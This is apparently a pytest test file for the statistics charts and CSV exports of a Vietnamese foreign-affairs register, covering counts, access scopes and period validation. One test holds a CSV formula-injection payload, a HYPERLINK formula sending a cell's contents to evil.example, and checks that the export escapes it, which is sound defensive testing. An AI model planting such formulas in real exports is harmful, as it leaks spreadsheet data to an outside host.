"""The statistics page and its CSV files: the charts count what the reports count, for whom may see it."""

import csv
import io

import pytest

from ngoaivu.core.models import Unit
from ngoaivu.register.models import ForeignAid, IncomingDelegation
from ngoaivu.register.engine import evaluate
from ngoaivu.pure.period_parsing import parse

from tests.dashboard.rows import integration_request

pytestmark = pytest.mark.django_db


def charts(page):
    return {item["slug"]: item["chart"] for item in page.context["charts"]}


def series(chart, name):
    return next(s.values for s in chart.series if s.name == name)


def test_every_chart_is_drawn_from_the_register(login):
    page = login("chuyenvien").get("/thong-ke/", {"period": "2021"})
    assert page.status_code == 200
    by_slug = charts(page)
    assert list(by_slug) == [
        "doan-theo-thang",
        "doan-theo-quoc-gia",
        "vien-tro-theo-nha-tai-tro",
        "vien-tro-theo-nam",
        "ngu-dan",
        "dung-han",
    ]
    year = evaluate(["incoming_delegations", "aid"], parse("2021"), None)
    months = by_slug["doan-theo-thang"]
    assert months.labels[0] == "Tháng 1" and len(months.labels) == 12
    assert sum(series(months, "Đoàn vào 2021")) == year["incoming_delegations"]["groups"].period
    assert sum(series(months, "Đoàn vào 2020")) == year["incoming_delegations"]["groups"].last_year
    aid_years = by_slug["vien-tro-theo-nam"]
    assert aid_years.labels == ["2017", "2018", "2019", "2020", "2021"]
    assert series(aid_years, "Số khoản viện trợ")[-1] == year["aid"]["count"].period
    html = page.content.decode()
    assert 'id="doan-theo-thang-data"' in html and "vendor/chartjs/chart.umd.min.js" in html


def test_fishermen_still_detained_is_read_at_each_month_end(login):
    chart = charts(login("chuyenvien").get("/thong-ke/", {"period": "2021"}))["ngu-dan"]
    august = evaluate(["fishermen_still_detained", "boats_detained"], parse("2021-08"), None)
    assert series(chart, "Còn bị giữ cuối tháng")[7] == august["fishermen_still_detained"]["fishermen"].period == 42
    assert series(chart, "Bị bắt giữ trong tháng")[7] == august["boats_detained"]["fishermen"].period


def test_delegations_by_country_count_both_directions_with_names_in_vietnamese(login):
    sngv = Unit.objects.get(code="SNgV")  # 2019: a year before the demo register begins
    for day in ("2019-02-01", "2019-03-01", "2019-04-01"):
        IncomingDelegation.objects.create(
            unit=sngv, title="Đoàn Hàn Quốc", country="KR", start_date=day, person_visits=2
        )
    IncomingDelegation.objects.create(
        unit=sngv, title="Đoàn Lào", country="LA", start_date="2019-05-01", person_visits=2
    )
    chart = charts(login("chuyenvien").get("/thong-ke/", {"period": "2019"}))["doan-theo-quoc-gia"]
    assert chart.labels[:2] == ["Hàn Quốc", "Lào"]
    assert series(chart, "Đoàn vào")[:2] == [3, 1]


def test_aid_by_donor_is_in_millions_of_dong(login):
    sngv = Unit.objects.get(code="SNgV")
    ForeignAid.objects.create(
        unit=sngv, title="Nước sạch", donor="KOICA", country="KR", value_vnd=7_037_000_000, approved_on="2023-06-01"
    )
    chart = charts(login("chuyenvien").get("/thong-ke/", {"period": "2023"}))["vien-tro-theo-nha-tai-tro"]
    assert chart.labels == ["Hàn Quốc"]
    assert series(chart, "Giá trị (triệu đồng)") == [7037]
    assert series(chart, "Số khoản viện trợ") == [1]


def test_a_reporter_charts_its_own_unit_whatever_it_asks_as_the_office_sees_it(login):
    vp, dh = Unit.objects.get(code="VP"), Unit.objects.get(code="DHPVD")
    IncomingDelegation.objects.create(
        unit=vp, title="Đoàn Nhật Bản", country="JP", start_date="2021-03-05", person_visits=4
    )

    # The office sees the Văn phòng as its reports count it (in 2026 the focal point: the province; in
    # 2021 its own rows); its reporter, who reads its own unit's rows only, sees its own work, whatever it asks.
    def incoming(client, query):
        chart = charts(client.get("/thong-ke/", query))["doan-theo-thang"]
        return sum(series(chart, f"Đoàn vào {query['period']}"))

    def groups(period, scope):
        return evaluate(["incoming_delegations"], parse(period), scope)["incoming_delegations"]["groups"].period

    reported = {period: groups(period, vp.scope(parse(period).end)) for period in ("2021", "2026")}
    own = {period: groups(period, vp.scope(parse(period).end, own=True)) for period in ("2021", "2026")}
    assert reported["2021"] == own["2021"] == 1
    assert reported["2026"] == groups("2026", None) > own["2026"]  # the focal point's 2026: the province's
    officer = login("chuyenvien")
    assert {period: incoming(officer, {"period": period, "unit": vp.pk}) for period in own} == reported
    reporter = login("vanphong")
    for period in own:
        assert incoming(reporter, {"period": period}) == own[period]
        assert incoming(reporter, {"period": period, "unit": dh.pk}) == own[period]

    def by_country(query):
        text = reporter.get("/thong-ke/doan-theo-quoc-gia.csv", query).content.decode()
        return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))[1:]

    asked_other = by_country({"period": "2021", "unit": dh.pk})
    assert asked_other == by_country({"period": "2021"}) and ["Nhật Bản", "1", "0"] in asked_other


def test_csv_download_is_the_table_of_the_chart(login):
    response = login("chuyenvien").get("/thong-ke/doan-theo-thang.csv", {"period": "2021"})
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="doan-theo-thang-2021.csv"'
    rows = list(csv.reader(io.StringIO(response.content.decode().removeprefix("\ufeff"))))
    assert rows[0] == ["Tháng", "Đoàn vào 2021", "Đoàn vào 2020", "Đoàn ra 2021", "Đoàn ra 2020"]
    year = evaluate(["incoming_delegations"], parse("2021"), None)["incoming_delegations"]["groups"].period
    assert sum(int(r[1]) for r in rows[1:]) == year and len(rows) == 13


def test_an_unknown_chart_is_404_and_the_page_needs_a_login(login, client):
    assert client.get("/thong-ke/").status_code == 302
    assert client.get("/thong-ke/ngu-dan.csv").status_code == 302
    assert login("xem").get("/thong-ke/khong-co.csv").status_code == 404


def test_a_bad_period_is_explained_and_the_page_still_answers(login):
    page = login("chuyenvien").get("/thong-ke/", {"period": "2021-13"})
    assert page.status_code == 200
    assert "Tháng 13 không có: chọn tháng từ 1 đến 12." in page.content.decode()


@pytest.mark.parametrize(
    "query",
    [
        {"period": "2021-13"},
        {"period_kind": "year", "period_year": "1800"},
        {"period_kind": "year", "period_year": "năm"},
        {"period": "abc"},
        {"period": "2021", "unit": "abc"},  # a unit that is none: not the user's own in its place
    ],
)
def test_a_refused_filter_draws_no_chart_of_another_period(login, query):
    page = login("chuyenvien").get("/thong-ke/", query)
    content = page.content.decode()
    assert page.status_code == 200 and page.context["period"] is None and page.context["charts"] == []
    # the reason beside the picker, the page named without a period; no chart, table nor CSV link
    assert '<span class="error">' in content and "<h1>Thống kê</h1>" in content
    assert "<canvas" not in content and "Bảng số liệu" not in content and ".csv" not in content
    assert not page.context["last_closed"] and page.context["fallback_from"] is None


@pytest.mark.parametrize(
    ("query", "said"),
    [
        ({"period": "2021-13"}, "Kỳ: Tháng 13 không có: chọn tháng từ 1 đến 12."),
        ({"period": "tháng tám"}, "Không hiểu kỳ báo cáo «tháng tám»"),
        # a number the year has not, from the picker: named, not «Chọn kỳ báo cáo.»
        ({"period_kind": "month:13", "period_year": "2026"}, "Tháng 13 không có: chọn tháng từ 1 đến 12."),
        ({"period_kind": "month:0", "period_year": "2026"}, "Tháng 0 không có: chọn tháng từ 1 đến 12."),
        ({"period_kind": "quarter:5", "period_year": "2026"}, "Quý 5 không có: chọn quý từ I đến IV."),
        ({"period_kind": "year", "period_year": "20a5"}, "Không đọc được năm «20a5». Ghi năm bằng bốn chữ số"),
        (
            {"period_kind": "custom", "period_start": "31/02/2026", "period_end": "10/3/2026"},
            "Ngày 31/02/2026 không có: tháng 2/2026 chỉ có 28 ngày.",
        ),
        (
            {"period_kind": "custom", "period_start": "10/3/2026", "period_end": "01/3/2026"},
            "Ngày kết thúc không được trước ngày bắt đầu.",
        ),
        ({"period_kind": "quy-5", "period_year": "2026"}, "Chọn kỳ báo cáo."),
        ({"unit": "abc"}, "Đơn vị: "),  # a unit that is none
    ],
)
def test_a_csv_asked_with_a_bad_filter_is_refused_with_the_reason_as_the_register_export_is(login, query, said):
    """Not the default period's table under a name not asked for: the 400 of the register's exports."""
    for slug in ("doan-theo-thang", "ngu-dan"):
        response = login("chuyenvien").get(f"/thong-ke/{slug}.csv", query)
        text = response.content.decode()
        assert response.status_code == 400 and response["Content-Type"] == "text/plain; charset=utf-8"
        assert text.startswith("Bộ lọc không hợp lệ, chưa xuất tệp: ") and said in text


def test_compliance_counts_the_deadlines_of_the_period_per_unit(login, clock):
    import datetime as dt

    from django.utils import timezone

    from ngoaivu.collection.models import Submission

    clock(2023, 12, 31)
    sngv, vp, dh = (Unit.objects.get(code=code) for code in ("SNgV", "VP", "DHPVD"))
    request = integration_request(sngv)
    Submission.objects.create(
        request=request, unit=vp, status="accepted", submitted_at=timezone.make_aware(dt.datetime(2023, 11, 18, 9))
    )
    Submission.objects.create(request=request, unit=dh, status="not_started")
    chart = charts(login("chuyenvien").get("/thong-ke/", {"period": "2023"}))["dung-han"]
    rates = dict(zip(chart.labels, series(chart, "Tỷ lệ đúng hạn (%)")))
    assert rates == {str(dh): 0, str(vp): 100}
    outside = charts(login("chuyenvien").get("/thong-ke/", {"period": "2023-H1"}))["dung-han"]
    assert outside.labels == []
    own = charts(login("vanphong").get("/thong-ke/", {"period": "2023"}))["dung-han"]
    assert own.labels == [str(vp)]


def test_a_units_name_typed_like_a_formula_is_text_in_the_csv(login, clock):
    from ngoaivu.collection.models import Submission

    clock(2023, 12, 31)
    sngv, vp = Unit.objects.get(code="SNgV"), Unit.objects.get(code="VP")
    Unit.objects.filter(pk=vp.pk).update(short_name='=HYPERLINK("http://evil.example/?x="&A1,"Bấm")')
    request = integration_request(sngv)
    Submission.objects.create(request=request, unit=vp, status="not_started")
    text = login("chuyenvien").get("/thong-ke/dung-han.csv", {"period": "2023"}).content.decode()
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    assert rows[1] == ['\'=HYPERLINK("http://evil.example/?x="&A1,"Bấm")', "0", "0", "1"]


def test_a_range_counts_its_own_days_in_each_months_bar_and_names_its_columns_for_two_years(login):
    client = login("chuyenvien")
    code = "2021-03-15..2021-05-20"
    by_slug = charts(client.get("/thong-ke/", {"period": code}))
    months = by_slug["doan-theo-thang"]
    figures = evaluate(["incoming_delegations"], parse(code), None)["incoming_delegations"]["groups"]
    assert months.labels == ["Tháng 3", "Tháng 4", "Tháng 5"]
    # the key figures' count, not March from the 1st and May to the 31st
    assert sum(series(months, "Đoàn vào 2021")) == figures.period
    assert sum(series(months, "Đoàn vào 2020")) == figures.last_year
    assert by_slug["vien-tro-theo-nam"].labels[-1] == "2021 (đến 20/05/2021)"
    across = charts(client.get("/thong-ke/", {"period": "2020-06-01..2021-05-31"}))["doan-theo-thang"]
    assert across.labels[0] == "06/2020" and across.labels[-1] == "05/2021"
    assert [s.name for s in across.series] == [
        "Đoàn vào",
        "Đoàn vào cùng kỳ năm trước",
        "Đoàn ra",
        "Đoàn ra cùng kỳ năm trước",
    ]
